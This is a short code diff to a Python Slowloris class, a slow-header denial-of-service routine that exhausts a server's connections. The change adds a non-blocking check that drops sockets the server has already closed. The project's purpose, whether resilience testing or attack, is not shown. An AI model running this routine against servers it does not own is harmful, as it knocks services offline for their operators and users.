@@ -179,6 +179,8 @@ class Slowloris:
             byte = self.HEAD[self._sent:self._sent + 1]
             for sock in list(self.sockets):
                 try:
+                    if _closed_by_peer(sock):
+                        raise ConnectionResetError
                     sock.send(byte)
                 except OSError:
                     self.sockets.remove(sock)
@@ -190,6 +192,15 @@ class Slowloris:
     def close(self) -> None:
         for sock in self.sockets:
             sock.close()
+
+
+def _closed_by_peer(sock: socket.socket) -> bool:
+    """Whether the other end closed ``sock`` (an end of stream or a reset is waiting);
+    never blocks."""
+    try:
+        return sock.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) == b""
+    except BlockingIOError:
+        return False
 
 
 def close_all(sockets: Sequence[socket.socket]) -> None:
